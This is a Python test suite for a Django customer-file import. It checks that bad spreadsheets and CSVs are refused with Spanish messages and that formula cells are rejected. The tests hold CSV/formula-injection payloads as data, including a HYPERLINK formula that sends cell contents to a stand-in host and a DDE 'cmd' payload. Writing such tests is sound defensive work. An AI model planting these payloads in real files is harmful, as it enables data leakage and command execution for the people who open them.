"""Customer file import (issue 13): every bad input the issue lists, through the API
(``POST /api/sync/connections/{id}/import/``, with and without ``?dry_run=1``) and through the
screens (the sync viewer's upload and the admin's), each answered in Spanish with nothing
changed: no customer field, no preview stored, no run, no event."""

import io
import os
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from sales.models import Customer, SalesEntity
from sync.models import CustomerImport, Event, Run
from tests.factories import CustomerFactory
from tests.factories_customer_file import csv_bytes, file_connection, moral_rfc, ratio_bomb, row, xlsx

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_SIGNS = ("=", "+", "-", "@")


# (id, file name, content, the Spanish message shown): each is refused as a whole.
BAD_FILES = [
    ("pdf", "clientes.xlsx", b"%PDF-1.4 esto no es una hoja", "El archivo no es una hoja de cálculo"),
    ("png", "clientes.csv", b"\x89PNG\r\n\x1a\n" + b"\0" * 64, "El archivo no es una hoja de cálculo"),
    ("xls", "clientes.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "no se admite"),
    ("broken-xlsx", "clientes.xlsx", b"PK\x03\x04 roto", "no es un Libro de Excel válido"),
    ("empty", "clientes.csv", b"", "El archivo está vacío"),
    ("blank", "clientes.csv", b"\r\n  \r\n", "El archivo está vacío"),
    ("only-headers", "clientes.xlsx", xlsx([]), "solo tiene encabezados"),
    ("no-mapped-headers", "clientes.csv", csv_bytes([["a", "b"]], headers=["Nombre", "Domicilio"]),
     "no tiene ninguno de los encabezados configurados"),
    ("no-key-column", "clientes.xlsx", xlsx([[moral_rfc(1), "UNO SA DE CV"]], headers=["RFC", "Razón social"]),
     "no tiene la columna «Clave»"),
    ("zip-bomb", "clientes.xlsx", ratio_bomb(), "posible «bomba zip»"),
    ("duplicated-key", "clientes.xlsx", xlsx([row(1), row(2), row(1)]),
     "La llave «C000001» aparece dos veces en el archivo (filas 2 y 4)"),
    ("duplicated-key-csv", "clientes.csv", csv_bytes([row(5), row(1), row(5)], delimiter=";"),
     "La llave «C000005» aparece dos veces en el archivo (filas 2 y 4)"),
    ("nul-byte-past-the-first-8-kb", "clientes.csv", csv_bytes([row(n) for n in range(200)]) + b"C9,\x00X\r\n",
     "El archivo tiene caracteres nulos en la línea 202"),
    ("huge-csv-cell", "clientes.csv", csv_bytes([row(1, **{"Razón social": "X" * 200_000})]),
     "El archivo CSV está mal formado cerca de la línea 2: una celda pasa de 131,072 caracteres"),
]  # fmt: skip
BAD_IDS = [case[0] for case in BAD_FILES]
BAD_CASES = [case[1:] for case in BAD_FILES]


def upload(content: bytes, name="clientes.xlsx"):
    return SimpleUploadedFile(name, content, content_type=XLSX)


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def state(company) -> list[dict]:
    """Every field of every customer of the company: what "nothing changed" compares."""
    return list(Customer.objects.filter(company=company).order_by("pk").values())


def with_customers(company):
    """The file's first customer is here (with other data), so an applied row would change it."""
    entity = SalesEntity.objects.get(company=company)
    CustomerFactory(
        entity=entity, number=50, external_key="C000001", rfc=row(1)[1], name="VIEJO SA DE CV",
        regimen_fiscal="601", postal_code="06000", uso_cfdi="G03", email="viejo@example.mx", credit_days=5,
    )  # fmt: skip
    CustomerFactory(entity=entity, number=51, external_key="OTRO", rfc=moral_rfc(900), name="OTRO SA DE CV")


def assert_nothing_stored():
    assert not CustomerImport.objects.exists()
    assert not Run.objects.exists()
    assert not Event.objects.exists()


def assert_no_english(message: str):
    for word in ("field", "larger", "limit", "line", "invalid", "file"):
        assert word not in message.lower().split(), message


# --- the API -------------------------------------------------------------------------------------
@pytest.mark.parametrize("query", ["", "?dry_run=1"], ids=["apply", "dry-run"])
@pytest.mark.parametrize(("name", "content", "message"), BAD_CASES, ids=BAD_IDS)
def test_api_refuses_each_bad_file_in_spanish_and_changes_nothing(
    company, integrator, api_as, django_capture_on_commit_callbacks, query, name, content, message
):
    connection = file_connection(company)
    with_customers(company)
    before = state(company)

    with django_capture_on_commit_callbacks(execute=True):
        reply = api_as(integrator).post(
            f"/api/sync/connections/{connection.pk}/import/{query}", {"file": upload(content, name)},
            format="multipart",
        )  # fmt: skip

    assert reply.status_code == 400, reply.content
    body = reply.json()
    assert set(body) == {"code", "message", "details"}
    assert body["code"] == "archivo_invalido"
    assert message in body["message"]
    assert_no_english(body["message"])
    assert state(company) == before
    assert_nothing_stored()


@pytest.mark.parametrize("query", ["", "?dry_run=1"], ids=["apply", "dry-run"])
def test_api_without_a_file_answers_in_spanish(company, integrator, api_as, query):
    connection = file_connection(company)
    reply = api_as(integrator).post(
        f"/api/sync/connections/{connection.pk}/import/{query}", {}, format="multipart"
    )
    assert reply.status_code == 400
    body = reply.json()
    assert (set(body), body["code"]) == ({"code", "message", "details"}, "validacion")
    assert "file" in body["details"] and "No se envió ningún archivo" in body["message"]
    assert_nothing_stored()


def test_api_refuses_a_file_over_50_mb_with_its_size_in_the_message(
    company, integrator, api_as, tmp_path, django_capture_on_commit_callbacks
):
    """At the real default limit: 50 MB and one byte, generated in tmp_path."""
    connection = file_connection(company)
    with_customers(company)
    before = state(company)
    big = tmp_path / "clientes.csv"
    with big.open("wb") as out:
        out.write(csv_bytes([row(1)]))
        out.truncate(50 * 1024 * 1024 + 1)  # the rest, zeros: never read, the size refuses it first
    with big.open("rb") as data, django_capture_on_commit_callbacks(execute=True):
        reply = api_as(integrator).post(
            f"/api/sync/connections/{connection.pk}/import/", {"file": data}, format="multipart"
        )
    assert reply.status_code == 400, reply.content[:300]
    body = reply.json()
    assert body["code"] == "archivo_invalido"
    assert "El archivo pesa 50.0 MB; el máximo es 50 MB" in body["message"]
    assert state(company) == before
    assert_nothing_stored()


def test_api_takes_a_file_under_50_mb_though_over_the_apis_general_upload_limit(
    company, integrator, api_as, settings
):
    """The import promises files "hasta 50 MB": the API's general multipart cap (16 MB, for a
    CFDI's XML and PDF) must not refuse a 20 MB customer file before it is read."""
    assert settings.API_MAX_UPLOAD_BYTES < 20 * 1024 * 1024
    connection = file_connection(company)
    book = io.BytesIO(xlsx([row(1)]))
    with zipfile.ZipFile(book, "a", zipfile.ZIP_STORED) as archive:  # an attachment the sheet never reads
        archive.writestr("xl/media/foto.bin", os.urandom(20 * 1024 * 1024))
    reply = api_as(integrator).post(
        f"/api/sync/connections/{connection.pk}/import/?dry_run=1", {"file": upload(book.getvalue())},
        format="multipart",
    )  # fmt: skip
    assert reply.status_code == 200, reply.content[:300]
    assert reply.json()["preview"]["to_create"] == 1


def test_the_size_limit_is_a_setting_read_at_each_import(company, integrator, api_as, settings):
    settings.CUSTOMER_FILE_MAX_BYTES = 1024 * 1024
    connection = file_connection(company)
    content = csv_bytes([row(1)]) + b"\r\n" * (600 * 1024)
    reply = api_as(integrator).post(
        f"/api/sync/connections/{connection.pk}/import/?dry_run=1", {"file": upload(content, "c.csv")},
        format="multipart",
    )  # fmt: skip
    assert reply.status_code == 400
    assert "el máximo es 1 MB" in reply.json()["message"]
    assert_nothing_stored()
    settings.CUSTOMER_FILE_MAX_BYTES = 2 * 1024 * 1024
    reply = api_as(integrator).post(
        f"/api/sync/connections/{connection.pk}/import/?dry_run=1", {"file": upload(content, "c.csv")},
        format="multipart",
    )  # fmt: skip
    assert reply.status_code == 200, reply.content[:300]


# --- formulas: refused per row, never stored, shown or exported ------------------------------------
FORMULAS = [
    '=HYPERLINK("http://malo.example/?x="&A1,"Ver factura")',
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
]


def formula_file(cell: str, column: str, kind: str) -> tuple[str, bytes]:
    """Row 2: the customer here, its e-mail changed and one cell a formula; row 3: a new one."""
    rows = [row(1, **{"Correo electrónico": "nuevo@example.mx", column: cell}), row(2)]
    if kind == "csv":
        return "clientes.csv", csv_bytes(rows)
    return "clientes.xlsx", xlsx(rows)


def assert_no_formula_anywhere(company, cell: str, *texts: str):
    for text in texts:
        assert cell not in text
    for values in state(company):
        for value in values.values():
            assert not (isinstance(value, str) and value.startswith(FORMULA_SIGNS)), values
    for message, key in Event.objects.values_list("message", "record_key"):
        assert cell not in message and not key.startswith(FORMULA_SIGNS)


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
@pytest.mark.parametrize("column", ["Razón social", "Clave", "Teléfonos"])
@pytest.mark.parametrize("cell", FORMULAS)
def test_api_formula_cells_are_row_errors_never_stored_and_the_row_is_not_half_applied(
    company, integrator, api_as, django_capture_on_commit_callbacks, cell, column, kind
):
    connection = file_connection(company)
    with_customers(company)
    before = state(company)
    api = api_as(integrator)
    name, content = formula_file(cell, column, kind)

    shown = api.post(f"/api/sync/connections/{connection.pk}/import/?dry_run=1", {"file": upload(content, name)},
                     format="multipart")  # fmt: skip

    assert shown.status_code == 200, shown.content
    preview = shown.json()["preview"]
    assert (preview["to_create"], preview["to_update"], preview["errors"]) == (1, 0, 1)
    error = next(r for r in preview["rows"] if r["action"] == "error")
    assert (error["row"], error["column"]) == (2, column)
    assert "la celda empieza con «=», «+», «-» o «@» (posible fórmula)" in error["message"]
    assert state(company) == before

    with django_capture_on_commit_callbacks(execute=True):
        applied = api.post(f"/api/sync/connections/{connection.pk}/import/", {"file": upload(content, name)},
                           format="multipart")  # fmt: skip
    assert applied.status_code == 202, applied.content
    run = Run.objects.get(pk=applied.json()["run"]["id"])
    assert (run.created, run.updated, run.failed) == (1, 0, 1)
    after = state(company)
    assert after[: len(before)] == before  # the row with the formula: its e-mail not applied either
    assert Customer.objects.filter(company=company, external_key="C000002").exists()
    assert Event.objects.filter(
        run=run, level="error", message__startswith=f"Fila 2, columna «{column}»"
    ).exists()
    assert_no_formula_anywhere(company, cell, shown.content.decode(), applied.content.decode())


def test_a_file_named_like_a_formula_is_not_a_formula_in_the_events(
    company, integrator, api_as, django_capture_on_commit_callbacks
):
    connection = file_connection(company)
    name = "=HYPERLINK(A1).xlsx"
    with django_capture_on_commit_callbacks(execute=True):
        reply = api_as(integrator).post(
            f"/api/sync/connections/{connection.pk}/import/", {"file": upload(xlsx([row(1)]), name)},
            format="multipart",
        )  # fmt: skip
    assert reply.status_code == 202
    assert Event.objects.filter(message__contains=name).exists()  # quoted inside a sentence
    assert not Event.objects.filter(record_key__regex=r"^[=+\-@]").exists()
    assert not Event.objects.filter(message__regex=r"^[=+\-@]").exists()


# --- the screens (the sync viewer's upload and the admin's): the same messages, nothing written -----
SCREENS = {
    "viewer": "/sync/conexiones/{pk}/importar/",
    "admin": "/admin/sync/connection/{pk}/importar/",
}


@pytest.mark.parametrize("screen", list(SCREENS))
@pytest.mark.parametrize(("name", "content", "message"), BAD_CASES, ids=BAD_IDS)
def test_screen_refuses_each_bad_file_in_spanish_and_changes_nothing(
    company, accountant, screen, name, content, message
):
    connection = file_connection(company)
    with_customers(company)
    before = state(company)
    reply = client_for(accountant).post(
        SCREENS[screen].format(pk=connection.pk), {"file": upload(content, name)}, follow=True
    )
    assert reply.status_code == 200
    shown = [str(m) for m in reply.context["messages"]]
    assert len(shown) == 1 and shown[0].startswith(f"«{name}»: ") and message in shown[0], shown
    assert_no_english(shown[0])
    assert message in reply.content.decode()
    assert state(company) == before
    assert_nothing_stored()


@pytest.mark.parametrize("screen", list(SCREENS))
def test_screen_refuses_a_file_over_the_limit(company, accountant, settings, screen):
    settings.CUSTOMER_FILE_MAX_BYTES = 1024 * 1024
    connection = file_connection(company)
    with_customers(company)
    before = state(company)
    content = csv_bytes([row(1)]) + b" " * (1024 * 1024)
    reply = client_for(accountant).post(
        SCREENS[screen].format(pk=connection.pk), {"file": upload(content, "grande.csv")}, follow=True
    )
    assert "«grande.csv»: El archivo pesa 1.0 MB; el máximo es 1 MB" in reply.content.decode()
    assert state(company) == before
    assert_nothing_stored()


@pytest.mark.parametrize("cell", FORMULAS[:3])
def test_screen_formula_cell_is_a_row_error_and_applying_leaves_that_customer_untouched(
    company, accountant, django_capture_on_commit_callbacks, cell
):
    connection = file_connection(company)
    with_customers(company)
    before = state(company)
    client = client_for(accountant)
    name, content = formula_file(cell, "Razón social", "xlsx")
    page = client.post(
        f"/sync/conexiones/{connection.pk}/importar/", {"file": upload(content, name)}, follow=True
    )
    html = page.content.decode()
    assert "posible fórmula" in html and "Razón social" in html
    assert state(company) == before
    preview = CustomerImport.objects.get()
    assert (preview.to_create, preview.to_update, preview.errors) == (1, 0, 1)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/sync/importaciones/{preview.pk}/aplicar/", follow=True)
    assert state(company)[: len(before)] == before
    preview.refresh_from_db()
    events = client.get(f"/sync/eventos/?run={preview.run_id}").content.decode()
    assert_no_formula_anywhere(company, cell, html, events)


@pytest.mark.parametrize("screen", list(SCREENS))
def test_screen_without_a_file_says_so(company, accountant, screen):
    connection = file_connection(company)
    reply = client_for(accountant).post(SCREENS[screen].format(pk=connection.pk), {}, follow=True)
    assert reply.status_code == 200
    if screen == "viewer":
        assert "Elija el archivo de clientes (XLSX o CSV)." in reply.content.decode()
    assert_nothing_stored()


# --- values a row cannot hold: a Spanish row error, never a crash --------------------------------
NUMBERS = [
    ("inf", "no es un número de días"),
    ("-inf", "posible fórmula"),
    ("NaN", "no es un número de días"),
]


@pytest.mark.parametrize(("days", "message"), NUMBERS)
def test_api_and_screen_a_number_no_customer_can_hold_is_a_row_error(
    company, integrator, accountant, api_as, days, message
):
    connection = file_connection(company)
    with_customers(company)
    before = state(company)
    content = xlsx([row(1, **{"Días de crédito": days}), row(2)])
    reply = api_as(integrator).post(
        f"/api/sync/connections/{connection.pk}/import/?dry_run=1",
        {"file": upload(content)},
        format="multipart",
    )
    assert reply.status_code == 200, reply.content
    error = next(r for r in reply.json()["preview"]["rows"] if r["action"] == "error")
    assert (error["row"], error["column"]) == (2, "Días de crédito") and message in error["message"]
    CustomerImport.objects.all().delete()
    page = client_for(accountant).post(
        f"/sync/conexiones/{connection.pk}/importar/", {"file": upload(content, "otro.xlsx")}, follow=True
    )
    assert page.status_code == 200 and message in page.content.decode()
    assert state(company) == before
